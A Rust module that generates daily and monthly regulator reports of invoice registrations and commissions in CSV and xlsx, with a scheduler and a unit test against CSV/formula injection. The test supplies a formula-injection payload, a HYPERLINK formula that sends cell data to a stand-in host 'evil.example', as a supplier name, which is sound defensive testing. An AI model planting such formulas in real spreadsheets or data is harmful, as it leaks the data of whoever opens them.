//! Reports for regulators: the registered invoices and commissions of a day
//! (xlsx + CSV) and a monthly summary, scheduled or on demand.
//!
//! Builders (`daily_csv`, `daily_xlsx`, `monthly_*`) are pure and
//! deterministic: the xlsx carries a fixed creation date (the period's first
//! day) and rust_xlsxwriter writes fixed zip timestamps, so re-running a day
//! reproduces the same bytes. `publish_*` reads the store, writes atomically
//! to each regulator account's folders, records the report and enqueues the
//! compliance-report e-mail in one transaction (idempotent on the content's
//! SHA-256: identical content is never announced twice).

pub mod config;

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::str::FromStr;
use std::sync::Arc;

use chrono::{Datelike, Duration as ChronoDuration, NaiveDate};
use rust_decimal::Decimal;
use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, Workbook, XlsxError};
use tokio_util::sync::CancellationToken;
use tracing::{info, warn};

use crate::certificate::format_money;
use crate::config::Config;
use crate::store::Store;
use crate::store::reports::Registration;

pub const COMMISSION_DIR: &str = "commission-reports";
pub const COMPLIANCE_DIR: &str = "compliance-documents";

#[derive(Debug, thiserror::Error)]
pub enum ReportError {
    #[error("store: {0}")]
    Store(#[from] crate::store::StoreError),
    #[error("xlsx: {0}")]
    Xlsx(#[from] XlsxError),
    #[error("writing {0}: {1}")]
    Write(String, std::io::Error),
    #[error("bad amount '{0}' in the store")]
    Amount(String),
    #[error("e-mail: {0}")]
    Mail(#[from] crate::outbox::OutboxError),
}

const DAILY_HEADER: [&str; 16] = [
    "certificado",
    "fecha_registro",
    "cuenta",
    "factura",
    "cufe",
    "nit_vendedor",
    "vendedor",
    "nit_comprador",
    "comprador",
    "valor",
    "comision",
    "regla",
    "version_regla",
    "job_id",
    "tipo",
    "ajusta_job_id",
];

/// Would a spreadsheet opening the CSV read this cell as a formula? Text
/// from invoices (a supplier's name) reaches these reports: `=HYPERLINK(…)`
/// or `@SUM(…)` must stay text. A plain number (`-12.50`) is left alone.
fn starts_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(s)
}

/// `-?digits(.digits)?`: the only cells that may begin with '-'.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "1"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// One CSV cell: a cell that would start a formula gets a leading `'`
/// (OWASP, CSV injection), then RFC 4180 quoting.
fn csv_field(s: &str) -> String {
    let neutral;
    let s = if starts_formula(s) {
        neutral = format!("'{s}");
        neutral.as_str()
    } else {
        s
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

fn registered_at_text(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(ms)
        .map(|t| {
            t.with_timezone(&crate::clock::bogota())
                .format("%Y-%m-%dT%H:%M:%S%:z")
                .to_string()
        })
        .unwrap_or_default()
}

/// The ledger kind as the reports name it.
fn entry_word(kind: crate::store::EntryKind) -> &'static str {
    match kind {
        crate::store::EntryKind::Registration => "registro",
        crate::store::EntryKind::Adjustment => "ajuste",
        crate::store::EntryKind::Cancellation => "anulacion",
    }
}

fn daily_cells(r: &Registration) -> [String; 16] {
    [
        r.certificate_number.clone(),
        registered_at_text(r.registered_at),
        r.account.clone(),
        r.invoice_number.clone(),
        r.cufe.clone(),
        r.supplier_id.clone(),
        r.supplier_name.clone(),
        r.customer_id.clone(),
        r.customer_name.clone(),
        r.value.clone(),
        r.commission.clone(),
        r.rule_id.clone(),
        r.rule_version.clone(),
        r.job_id.to_string(),
        entry_word(r.ledger.kind).to_owned(),
        r.ledger.adjusts.map(|j| j.to_string()).unwrap_or_default(),
    ]
}

fn to_f64(v: &str) -> f64 {
    v.parse::<f64>().unwrap_or(0.0)
}

fn workbook_for(day: NaiveDate, title: &str) -> Result<Workbook, ReportError> {
    let mut wb = Workbook::new();
    let created = ExcelDateTime::from_ymd(day.year() as u16, day.month() as u8, day.day() as u8)?;
    wb.set_properties(
        &DocProperties::new()
            .set_title(title)
            .set_author("Pasarela")
            .set_company("Bolsa Mercantil de Colombia")
            .set_creation_datetime(&created),
    );
    Ok(wb)
}

/// Builds the daily report row by row (CSV and a constant-memory xlsx
/// worksheet at once), so a large day is never held as a list of rows.
pub struct DailyReport {
    csv: Vec<u8>,
    wb: Workbook,
    rows: u32,
    value: Decimal,
    commission: Decimal,
    bold: Format,
    money: Format,
    /// Text that would start a formula: written as a string (never a
    /// formula) with Excel's quote prefix, so editing the cell keeps it text.
    quoted: Format,
}

/// What [`DailyReport::finish`] returns.
pub struct DailyOutput {
    pub xlsx: Vec<u8>,
    /// UTF-8, comma-separated, '.' decimals, one header line.
    pub csv: Vec<u8>,
    pub rows: u64,
    pub value: Decimal,
    pub commission: Decimal,
}

impl DailyReport {
    pub fn new(day: NaiveDate) -> Result<DailyReport, ReportError> {
        let mut wb = workbook_for(day, &format!("Registros y comisiones del {day}"))?;
        let bold = Format::new().set_bold();
        let money = Format::new().set_num_format("#,##0.00");
        // Constant memory: rows are streamed to a temp file as they are written
        // (in order), so a day of 100,000 registrations does not hold every cell.
        let ws = wb.add_worksheet_with_constant_memory()?;
        ws.set_name("registros")?;
        // Column widths must precede the rows in constant-memory mode.
        ws.set_column_width(4, 30)?;
        ws.set_column_width(6, 30)?;
        ws.set_column_width(8, 30)?;
        for (c, h) in DAILY_HEADER.iter().enumerate() {
            ws.write_string_with_format(0, c as u16, *h, &bold)?;
        }
        let mut csv = DAILY_HEADER.join(",").into_bytes();
        csv.push(b'\n');
        Ok(DailyReport {
            csv,
            wb,
            rows: 0,
            value: Decimal::ZERO,
            commission: Decimal::ZERO,
            bold,
            money,
            quoted: Format::new().set_quote_prefix(),
        })
    }

    /// Add one registration (in certificate order).
    pub fn push(&mut self, r: &Registration) -> Result<(), ReportError> {
        self.value +=
            Decimal::from_str(&r.value).map_err(|_| ReportError::Amount(r.value.clone()))?;
        self.commission += Decimal::from_str(&r.commission)
            .map_err(|_| ReportError::Amount(r.commission.clone()))?;
        let cells = daily_cells(r);
        let line: Vec<String> = cells.iter().map(|c| csv_field(c)).collect();
        self.csv.extend_from_slice(line.join(",").as_bytes());
        self.csv.push(b'\n');
        self.rows += 1;
        let row = self.rows;
        let ws = self.wb.worksheet_from_index(0)?;
        for (c, v) in cells.iter().enumerate() {
            match c {
                9 | 10 => {
                    ws.write_number_with_format(row, c as u16, to_f64(v), &self.money)?;
                }
                13 => {
                    ws.write_number(row, c as u16, r.job_id as f64)?;
                }
                15 if !v.is_empty() => {
                    ws.write_number(row, c as u16, to_f64(v))?;
                }
                _ if starts_formula(v) => {
                    ws.write_string_with_format(row, c as u16, v, &self.quoted)?;
                }
                _ => {
                    ws.write_string(row, c as u16, v)?;
                }
            }
        }
        Ok(())
    }

    pub fn finish(mut self) -> Result<DailyOutput, ReportError> {
        let total_row = self.rows + 1;
        let ws = self.wb.worksheet_from_index(0)?;
        ws.write_string_with_format(total_row, 0, "TOTAL", &self.bold)?;
        ws.write_number(total_row, 2, self.rows as f64)?;
        ws.write_number_with_format(total_row, 9, to_f64(&self.value.to_string()), &self.money)?;
        ws.write_number_with_format(
            total_row,
            10,
            to_f64(&self.commission.to_string()),
            &self.money,
        )?;
        Ok(DailyOutput {
            xlsx: self.wb.save_to_buffer()?,
            csv: self.csv,
            rows: self.rows as u64,
            value: self.value,
            commission: self.commission,
        })
    }
}

/// Daily report as CSV (UTF-8, comma-separated, '.' decimals, one header line).
pub fn daily_csv(day: NaiveDate, rows: &[Registration]) -> Result<Vec<u8>, ReportError> {
    Ok(daily(day, rows)?.csv)
}

/// Daily report as xlsx: one sheet with the registrations and a totals row.
pub fn daily_xlsx(day: NaiveDate, rows: &[Registration]) -> Result<Vec<u8>, ReportError> {
    Ok(daily(day, rows)?.xlsx)
}

/// Both daily files from a list of rows.
pub fn daily(day: NaiveDate, rows: &[Registration]) -> Result<DailyOutput, ReportError> {
    let mut b = DailyReport::new(day)?;
    for r in rows {
        b.push(r)?;
    }
    b.finish()
}

/// One day of the monthly summary.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DaySummary {
    pub day: String,
    pub registrations: u64,
    pub value: Decimal,
    pub commission: Decimal,
}

/// Group (day, value, commission, kind) ledger rows by day: `registrations`
/// counts invoices registered; value and commission are net of the notes
/// applied that day.
pub fn summarize(
    amounts: &[(String, String, String, crate::store::EntryKind)],
) -> Result<Vec<DaySummary>, ReportError> {
    let mut by_day: BTreeMap<&str, DaySummary> = BTreeMap::new();
    for (day, v, c, kind) in amounts {
        let e = by_day.entry(day).or_insert_with(|| DaySummary {
            day: day.clone(),
            registrations: 0,
            value: Decimal::ZERO,
            commission: Decimal::ZERO,
        });
        if *kind == crate::store::EntryKind::Registration {
            e.registrations += 1;
        }
        e.value += Decimal::from_str(v).map_err(|_| ReportError::Amount(v.clone()))?;
        e.commission += Decimal::from_str(c).map_err(|_| ReportError::Amount(c.clone()))?;
    }
    Ok(by_day.into_values().collect())
}

pub fn monthly_csv(days: &[DaySummary]) -> Vec<u8> {
    let mut out = String::from("dia,registros,valor,comision\n");
    for d in days {
        out.push_str(&format!(
            "{},{},{},{}\n",
            d.day, d.registrations, d.value, d.commission
        ));
    }
    let n: u64 = days.iter().map(|d| d.registrations).sum();
    let v: Decimal = days.iter().map(|d| d.value).sum();
    let c: Decimal = days.iter().map(|d| d.commission).sum();
    out.push_str(&format!("TOTAL,{n},{v},{c}\n"));
    out.into_bytes()
}

pub fn monthly_xlsx(first_day: NaiveDate, days: &[DaySummary]) -> Result<Vec<u8>, ReportError> {
    let mut wb = workbook_for(
        first_day,
        &format!("Resumen mensual {}", first_day.format("%Y-%m")),
    )?;
    let bold = Format::new().set_bold();
    let money = Format::new().set_num_format("#,##0.00");
    let ws = wb.add_worksheet();
    ws.set_name("resumen")?;
    for (c, h) in ["dia", "registros", "valor", "comision"].iter().enumerate() {
        ws.write_string_with_format(0, c as u16, *h, &bold)?;
    }
    for (i, d) in days.iter().enumerate() {
        let row = i as u32 + 1;
        ws.write_string(row, 0, &d.day)?;
        ws.write_number(row, 1, d.registrations as f64)?;
        ws.write_number_with_format(row, 2, to_f64(&d.value.to_string()), &money)?;
        ws.write_number_with_format(row, 3, to_f64(&d.commission.to_string()), &money)?;
    }
    let row = days.len() as u32 + 1;
    ws.write_string_with_format(row, 0, "TOTAL", &bold)?;
    ws.write_number(
        row,
        1,
        days.iter().map(|d| d.registrations).sum::<u64>() as f64,
    )?;
    let v: Decimal = days.iter().map(|d| d.value).sum();
    let c: Decimal = days.iter().map(|d| d.commission).sum();
    ws.write_number_with_format(row, 2, to_f64(&v.to_string()), &money)?;
    ws.write_number_with_format(row, 3, to_f64(&c.to_string()), &money)?;
    ws.set_column_width(0, 12)?;
    Ok(wb.save_to_buffer()?)
}

/// What a publication wrote.
#[derive(Debug, Clone)]
pub struct Published {
    pub kind: &'static str,
    pub period: String,
    pub files: Vec<PathBuf>,
    pub rows: u64,
    pub value: Decimal,
    pub commission: Decimal,
    /// SHA-256 of the xlsx (identifies the content).
    pub sha256: String,
    /// False when this exact content had already been published.
    pub newly_published: bool,
}

/// Folders a report goes to: each `[reports] accounts` home's
/// `outgoing/<sub>/`, or `<state_dir>/reports/<sub>/` when none is configured.
fn targets(config: &Config, sub: &str) -> Vec<PathBuf> {
    let accounts: Vec<&crate::config::Account> = config
        .reports
        .as_ref()
        .map(|r| {
            r.accounts
                .iter()
                .filter_map(|a| config.accounts.get(a))
                .collect()
        })
        .unwrap_or_default();
    if accounts.is_empty() {
        vec![config.daemon.state_dir.join("reports").join(sub)]
    } else {
        accounts.iter().map(|a| a.outgoing().join(sub)).collect()
    }
}

async fn write_all(files: Vec<(PathBuf, Vec<u8>)>) -> Result<Vec<PathBuf>, ReportError> {
    tokio::task::spawn_blocking(move || {
        let mut written = Vec::new();
        for (path, bytes) in files {
            // Unchanged content is left alone (no rewrite, same mtime).
            if std::fs::read(&path).is_ok_and(|b| b == bytes) {
                written.push(path);
                continue;
            }
            crate::fsutil::write_atomic(&path, &bytes)
                .map_err(|e| ReportError::Write(path.display().to_string(), e))?;
            written.push(path);
        }
        Ok(written)
    })
    .await
    .map_err(|e| ReportError::Write("reports".into(), std::io::Error::other(e.to_string())))?
}

#[allow(clippy::too_many_arguments)]
async fn publish(
    store: &Store,
    config: &Config,
    kind: &'static str,
    period: String,
    sub: &str,
    stem: String,
    xlsx: Vec<u8>,
    csv: Vec<u8>,
    rows: u64,
    value: Decimal,
    commission: Decimal,
) -> Result<Published, ReportError> {
    let mut files = Vec::new();
    for dir in targets(config, sub) {
        files.push((dir.join(format!("{stem}.xlsx")), xlsx.clone()));
        files.push((dir.join(format!("{stem}.csv")), csv.clone()));
    }
    let files = write_all(files).await?;
    let sha256 = crate::fsutil::sha256_hex(&xlsx);
    let recipients = config
        .reports
        .as_ref()
        .map(|r| r.recipients.clone())
        .unwrap_or_default();
    let mut vars = BTreeMap::new();
    vars.insert(
        "tipo",
        if kind == "daily" {
            "diario".to_string()
        } else {
            "mensual".to_string()
        },
    );
    vars.insert("periodo", period.clone());
    vars.insert("registros", rows.to_string());
    vars.insert("valor_total", format_money(value));
    vars.insert("comision_total", format_money(commission));
    vars.insert(
        "archivos",
        files
            .iter()
            .filter_map(|f| {
                f.file_name()
                    .map(|n| format!("- {sub}/{}", n.to_string_lossy()))
            })
            .collect::<std::collections::BTreeSet<_>>()
            .into_iter()
            .collect::<Vec<_>>()
            .join("\n"),
    );
    let message = crate::outbox::compose(
        config,
        crate::store::OutboxKind::ComplianceReport,
        format!("compliance-report:{kind}:{period}:{sha256}"),
        None,
        None,
        recipients,
        &vars,
        None,
    )?;
    let newly_published = store
        .record_report(
            kind,
            &period,
            &sha256,
            rows,
            message.as_ref(),
            chrono::Utc::now().timestamp_millis(),
        )
        .await?;
    Ok(Published {
        kind,
        period,
        files,
        rows,
        value,
        commission,
        sha256,
        newly_published,
    })
}

/// Publish the daily report of `day` (America/Bogota).
pub async fn publish_daily(
    store: &Store,
    config: &Config,
    day: NaiveDate,
) -> Result<Published, ReportError> {
    let period = day.format("%Y-%m-%d").to_string();
    let mut builder = DailyReport::new(day)?;
    store
        .for_each_registration_on(&period, |r| builder.push(&r))
        .await??;
    let out = builder.finish()?;
    publish(
        store,
        config,
        "daily",
        period.clone(),
        COMMISSION_DIR,
        format!("registros-comisiones-{period}"),
        out.xlsx,
        out.csv,
        out.rows,
        out.value,
        out.commission,
    )
    .await
}

/// Publish the monthly summary of the month containing `first_day`.
pub async fn publish_monthly(
    store: &Store,
    config: &Config,
    year: i32,
    month: u32,
) -> Result<Published, ReportError> {
    let first = NaiveDate::from_ymd_opt(year, month, 1)
        .ok_or_else(|| ReportError::Amount(format!("{year}-{month}")))?;
    let period = first.format("%Y-%m").to_string();
    let amounts = store.registration_amounts_in_month(&period).await?;
    let days = summarize(&amounts)?;
    let rows: u64 = days.iter().map(|d| d.registrations).sum();
    let value: Decimal = days.iter().map(|d| d.value).sum();
    let commission: Decimal = days.iter().map(|d| d.commission).sum();
    publish(
        store,
        config,
        "monthly",
        period.clone(),
        COMPLIANCE_DIR,
        format!("resumen-mensual-{period}"),
        monthly_xlsx(first, &days)?,
        monthly_csv(&days),
        rows,
        value,
        commission,
    )
    .await
}

/// The next instant (UTC ms) at which the daily publication runs, after `now_ms`.
pub fn next_run_ms(daily_at: chrono::NaiveTime, now_ms: i64) -> i64 {
    let tz = crate::clock::bogota();
    let now = chrono::DateTime::from_timestamp_millis(now_ms)
        .unwrap_or_default()
        .with_timezone(&tz);
    let today = now.date_naive().and_time(daily_at);
    let candidate = if now.naive_local() < today {
        today
    } else {
        today + ChronoDuration::days(1)
    };
    candidate.and_utc().timestamp_millis() + 5 * 3600 * 1000
}

/// How many days back the scheduler looks for unpublished daily reports.
pub const CATCH_UP_DAYS: i64 = 7;

/// Publish what is due at `now_ms`: yesterday's daily report (Bogotá) once
/// the time of day has passed (and missed days of the last week that have
/// registrations), and the previous month's summary on the 1st (or later if
/// missed and not empty).
/// Skips periods already published, so start-up catch-up is harmless.
pub async fn publish_due(
    store: &Store,
    config: &Config,
    now_ms: i64,
) -> Result<Vec<Published>, ReportError> {
    let Some(rc) = &config.reports else {
        return Ok(Vec::new());
    };
    let tz = crate::clock::bogota();
    let now = chrono::DateTime::from_timestamp_millis(now_ms)
        .unwrap_or_default()
        .with_timezone(&tz);
    let mut out = Vec::new();
    if now.time() < rc.daily_at {
        return Ok(out);
    }
    let yesterday = now.date_naive() - ChronoDuration::days(1);
    // Catch up on up to a week of missed days (daemon down at `daily_at`);
    // earlier days are published only if they have registrations, so a new
    // installation does not publish a week of empty reports.
    for back in (0..CATCH_UP_DAYS).rev() {
        let day = yesterday - ChronoDuration::days(back);
        let period = day.format("%Y-%m-%d").to_string();
        if store.report_published("daily", &period).await? {
            continue;
        }
        if back > 0 && store.registration_count_on(&period).await? == 0 {
            continue;
        }
        out.push(publish_daily(store, config, day).await?);
    }
    // The previous month: on the 1st, or later if it was missed and has data.
    let prev_month =
        now.date_naive().with_day(1).unwrap_or(now.date_naive()) - ChronoDuration::days(1);
    let period = prev_month.format("%Y-%m").to_string();
    if !store.report_published("monthly", &period).await?
        && (now.day() == 1
            || !store
                .registration_amounts_in_month(&period)
                .await?
                .is_empty())
    {
        out.push(publish_monthly(store, config, prev_month.year(), prev_month.month()).await?);
    }
    Ok(out)
}

/// The report scheduler: catch up at start, then wake at `daily_at` every day.
pub async fn run_scheduler(store: Store, config: Arc<Config>, shutdown: CancellationToken) {
    let Some(rc) = config.reports.clone() else {
        return;
    };
    if !rc.scheduled {
        return;
    }
    loop {
        match publish_due(&store, &config, chrono::Utc::now().timestamp_millis()).await {
            Ok(list) => {
                for p in list {
                    info!(kind = p.kind, period = %p.period, rows = p.rows, new = p.newly_published, "report published");
                }
            }
            Err(e) => warn!(error = %e, "report publication failed; retrying in 5 minutes"),
        }
        let now = chrono::Utc::now().timestamp_millis();
        let next = next_run_ms(rc.daily_at, now);
        // Wake at least every 5 minutes (clock jumps, failed runs).
        let wait = (next - now).clamp(1_000, 300_000) as u64;
        tokio::select! {
            _ = shutdown.cancelled() => break,
            _ = tokio::time::sleep(std::time::Duration::from_millis(wait)) => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn registration(job_id: i64, supplier: &str, customer: &str) -> Registration {
        Registration {
            job_id,
            certificate_number: format!("BMC-{job_id:06}"),
            account: "demo".into(),
            invoice_number: format!("SETP{job_id}"),
            cufe: "c".repeat(96),
            supplier_id: "900373115".into(),
            supplier_name: supplier.into(),
            customer_id: "800199436".into(),
            customer_name: customer.into(),
            value: "1234567.89".into(),
            commission: "-1234.50".into(),
            rule_id: "granos-venta".into(),
            rule_version: "3".into(),
            registered_at: 1_710_514_800_123,
            registered_day: "2026-03-15".into(),
            ledger: crate::store::reports::Ledger::registration("1234567.89", "-1234.50", None),
        }
    }

    fn sheet_xml(xlsx: &[u8]) -> String {
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
        let mut f = zip.by_name("xl/worksheets/sheet1.xml").unwrap();
        let mut s = String::new();
        std::io::Read::read_to_string(&mut f, &mut s).unwrap();
        s
    }

    // Issue 16: a supplier name is attacker-chosen text. In the CSV, a cell
    // that would start a formula gets a leading quote; in the xlsx it is a
    // string cell (never a formula) with the quote-prefix style. Plain
    // numbers, even negative, are unchanged; the output stays reproducible.
    #[test]
    fn cells_that_would_start_a_formula_stay_text() {
        let day = NaiveDate::from_ymd_opt(2026, 3, 15).unwrap();
        let hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Clic\")";
        let rows = [
            registration(1, hyperlink, "@SUM(1+1)"),
            registration(2, "+57 Agro", "-Molinos"),
            registration(3, "\tTab S.A.S.", "\rCR Ltda"),
            registration(4, "Agrícola Ñandú S.A.S.", "Molinos"),
        ];
        let out = daily(day, &rows).unwrap();
        let csv = String::from_utf8(out.csv.clone()).unwrap();
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        let cells: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        let names: Vec<(&str, &str)> = cells.iter().map(|r| (&*r[6], &*r[8])).collect();
        assert_eq!(
            names,
            [
                (&*format!("'{hyperlink}"), "'@SUM(1+1)"),
                ("'+57 Agro", "'-Molinos"),
                ("'\tTab S.A.S.", "'\rCR Ltda"),
                ("Agrícola Ñandú S.A.S.", "Molinos"),
            ]
        );
        for row in &cells {
            assert_eq!(row[10], "-1234.50", "a negative amount is a number");
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell == "-1234.50",
                    "{cell:?}"
                );
            }
        }

        let sheet = sheet_xml(&out.xlsx);
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
        let shared = {
            let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&out.xlsx)).unwrap();
            let mut s = String::new();
            if let Ok(mut f) = zip.by_name("xl/sharedStrings.xml") {
                std::io::Read::read_to_string(&mut f, &mut s).unwrap();
            }
            s
        };
        let all = format!("{sheet}{shared}");
        assert!(all.contains("=HYPERLINK("), "the name is kept as text");
        assert!(all.contains("@SUM(1+1)"));
        let styles = {
            let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&out.xlsx)).unwrap();
            let mut s = String::new();
            let mut f = zip.by_name("xl/styles.xml").unwrap();
            std::io::Read::read_to_string(&mut f, &mut s).unwrap();
            s
        };
        assert!(styles.contains("quotePrefix=\"1\""), "{styles}");

        let again = daily(day, &rows).unwrap();
        assert_eq!(again.csv, out.csv);
        assert_eq!(again.xlsx, out.xlsx, "reports stay byte-reproducible");
    }
}
